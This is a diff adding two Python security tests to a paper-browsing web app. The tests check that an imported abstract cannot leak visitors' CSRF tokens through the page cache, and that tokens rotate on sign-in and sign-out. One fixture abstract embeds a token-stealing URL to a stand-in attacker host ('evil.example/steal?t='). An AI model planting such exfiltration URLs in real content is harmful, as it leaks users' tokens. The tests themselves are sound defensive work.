@@ -712,3 +712,41 @@ def test_huge_integers_anywhere_are_refused_not_crashed(settings, fast_hashes):
                     assert r.status_code < 500, (method, url, where, number, r.status_code, r.text[:300])
                     tried += 1
         assert tried >= 6 * len(found)
+
+
+# -- 10. the rest: CSRF marker and rotation ------------------------------------------------------------------
+def test_imported_text_cannot_carry_the_cached_pages_csrf_marker(settings, fast_hashes):
+    """An abstract holding the cache's token marker inside a URL must not become a link with each
+    visitor's CSRF token (the marker was a fixed string; now it is random per process)."""
+    from paperboy.web import render as render_module
+
+    marks = ["\x00csrf\x00", render_module._CSRF_MARK[:6]]
+    record = {
+        "id": "2607.00031",
+        "title": "Marked " + marks[0],
+        "abstract": "Code at https://evil.example/steal?t=" + marks[0] + " and more",
+    }
+    from webkit import corpus, rec
+
+    records = [r for r in corpus() if r.id != "2607.00031"] + [rec(**{**record, "announced": "2026-07-10"})]
+    with running_app(settings.with_overrides(page_cache_seconds=60.0), records=records) as web:
+        for _ in range(2):  # the first view fills the cache, the second is served from it
+            visitor = web.browser()
+            page = visitor.get("/papers/2607.00031").text
+            token = visitor.cookies.get("pb_csrf")
+            assert token and "evil.example/steal?t=" + token not in page
+            assert page.count(token) == page.count('name="csrf_token"') + 1  # the forms and the meta tag only
+
+
+def test_signing_in_and_out_rotates_the_csrf_token(settings, fast_hashes):
+    with running_app(settings) as web:
+        visitor = web.browser()
+        before = csrf(visitor)
+        register(visitor, "alice")
+        after_sign_up = visitor.cookies.get("pb_csrf")
+        assert after_sign_up and after_sign_up != before
+        old = visitor.post("/logout", data={"csrf_token": before}, follow_redirects=False)
+        assert old.status_code == 403  # the token a page showed before signing in is dead
+        assert post(visitor, "/logout").status_code == 303
+        assert visitor.cookies.get("pb_csrf") not in (before, after_sign_up)
+        assert post(visitor, "/login", {"login": "alice", "password": PASSWORD}).status_code == 303
